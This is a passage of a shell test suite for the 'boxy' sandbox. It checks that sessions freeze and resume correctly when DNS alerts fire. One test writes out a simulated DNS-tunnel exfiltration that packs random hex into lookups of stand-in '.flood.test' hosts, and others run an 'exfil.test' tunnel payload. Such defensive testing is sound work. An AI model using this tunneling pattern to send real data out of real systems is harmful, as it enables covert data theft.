			ok "$mech: a session next to a frozen one runs on to its end"
		else
			rx_fail "$mech: a session next to a frozen one runs on" "neighbour $bid: count $c1 then $c2"
		fi
	else
		rx_fail "$mech: a session next to a frozen one runs on" "never frozen (ID '$ID')"
	fi
	tn_boxy stop "$ID" >/dev/null 2>&1
	rx_wait 20
}

# Twenty tunnels at once: a flood of alerts freezes once; nothing but boxy
# resume resumes; the next alert freezes again; boxy resume --log lets it end.
react_flood() {
	local mech=$1 n
	rx_start flood --net public --on-alert dns=freeze -- sh -c '
		for k in $(seq 1 20); do
			( for i in $(seq 1 12); do
				getent hosts "$(od -An -tx1 -N30 /dev/urandom | tr -d " \n").$i.p$k-flood.test" >/dev/null
			done ) &
		done
		wait
		echo done >progress'
	if ! wait_session p1-flood 15 && ! wait_session flood.test 1 || ! wait_state "$ID" frozen 30; then
		ID=$(session_where flood)
		rx_fail "$mech: a flood of alerts freezes once" "never frozen (ID '$ID')"
		tn_boxy stop "$ID" >/dev/null 2>&1
		rx_wait 20
		return 0
	fi
	sleep 2
	n=$(decisions "$ID" react freeze)
	if [ "$n" = 1 ] && [ "$(state_of "$ID")" = frozen ]; then
		ok "$mech: a flood of alerts freezes the session once, and it stays frozen"
	else
		rx_fail "$mech: a flood of alerts freezes the session once" "$n freezes, state $(state_of "$ID")"
	fi
	tn_boxy resume "$ID" >/dev/null 2>&1
	if wait_state "$ID" frozen 15 && [ "$(decisions "$ID" react freeze)" = 2 ]; then
		ok "$mech: after boxy resume the next alert freezes it again"
	else
		rx_fail "$mech: after boxy resume the next alert freezes it again" \
			"state $(state_of "$ID"), $(decisions "$ID" react freeze) freezes"
	fi
	tn_boxy resume --log "$ID" >/dev/null 2>&1
	rx_wait 60
	if [ "$RC" = 0 ] && [ "$(cat "$C/progress")" = done ] &&
		[ "$(decisions "$ID" react freeze)" = 2 ] &&
		decision_text "$ID" react log | grep -q "logged only (the session was resumed with boxy resume --log)"; then
		ok "$mech: boxy resume --log lets it end, its later alerts logged only"
	else
		rx_fail "$mech: boxy resume --log lets it end" "$(decisions "$ID" react freeze) freezes"
	fi
}

# --timeout runs on while frozen: a promise to whoever waits on the run.
react_timeout() {
	local mech=$1 t0 t1
	t0=$(date +%s)
	rx_start timeout --net public --timeout 6s --on-alert dns=freeze -- sh -c "$REACT_TUNNEL"
	wait_session exfil.test 10 && wait_state "$ID" frozen 10
	rx_wait 30
	t1=$(date +%s)
	if [ "$RC" = 124 ] && [ $((t1 - t0)) -lt 20 ] &&
		audit_has limits deny "the run exceeded --timeout while frozen (dns: exfil.test:" &&
		[ "$(decisions "$ID" react freeze)" = 1 ] && [ "$(exfil_max)" -lt 2 ]; then
		ok "$mech: --timeout runs on while frozen: the frozen run is killed at its timeout (exit 124) and says so"
	else
		rx_fail "$mech: --timeout runs on while frozen" "took $((t1 - t0)) s"
	fi
}

# The payload tells boxy-init PLAN_SIG_FREEZE itself (SIGRTMIN+2): ignored, since
# only the owner's counts; so a ^Z'd payload is still resumed by boxy-init.
react_spoof() {
	local mech=$1
	rx_start spoof --net none --timeout 15s -- sh -c '
		python3 -c "import os, signal; os.kill(1, signal.SIGRTMIN + 2)"
		sleep 0.3
		kill -TSTP $$
		echo resumed'
	rx_wait 30
	if [ "$RC" = 0 ] && grep -q '^resumed$' "$C/out"; then
		ok "$mech: a payload's own freeze signal to boxy-init is ignored (a ^Z'd payload is still resumed)"
	else
		rx_fail "$mech: a payload's own freeze signal to boxy-init is ignored"
	fi
}

# The daemon killed (SIGKILL) under a frozen session: nothing of it is left
# running or stopped — not its sandbox, not its boxy-net (stopped, it would
# never read the EOF that ends it) — and the next daemon marks it lost, frozen.
react_daemon_dies() {
	local mech=$1 dpid net left
	rx_start daemon-dies --net public --on-alert dns=freeze -- sh -c "$REACT_TUNNEL"
	if ! wait_session exfil.test 10 || ! wait_state "$ID" frozen 10; then
		rx_fail "$mech: a frozen session dies with its daemon, boxy-net too" "never frozen"
		return 0
	fi
	dpid=$(sed -n 's/^pid //p' "$TN/state/boxy/daemon.lock")
	net=$(for p in /proc/[0-9]*; do
		[ "$(cat "$p/comm" 2>/dev/null)" = boxy-net ] &&
			[ "$(awk '/^PPid:/ { print $2 }' "$p/status" 2>/dev/null)" = "$dpid" ] &&
			echo "${p#/proc/}"; done)
	kill -KILL "$dpid"
	rx_wait 20
	sleep 1
	left=$(ns_tasks "$C" | wc -l)
	# The next daemon (a run starts one) marks what the dead one ran as lost.
	(cd "$C" && tn_boxy run --net none -- true) >/dev/null 2>&1
	# Dead: gone, or a zombie its new parent has not reaped yet; never stopped or running.
	if [ -n "$net" ] && ! ps -o stat= -p "$net" 2>/dev/null | grep -q '^[^Z]' && [ "$left" = 0 ] &&
		[ "$(state_of "$ID")" = lost ] && tn_boxy show "$ID" | grep -q "^was frozen dns: exfil.test"; then
		ok "$mech: the daemon killed under a frozen session: its sandbox and its stopped boxy-net die too; the next daemon marks it lost"
	else
		rx_fail "$mech: a frozen session dies with its daemon, boxy-net too" \
			"boxy-net $net: $(ps -o stat= -p "$net" 2>/dev/null); $left thread(s) of the sandbox left; state $(state_of "$ID")"
	fi
}
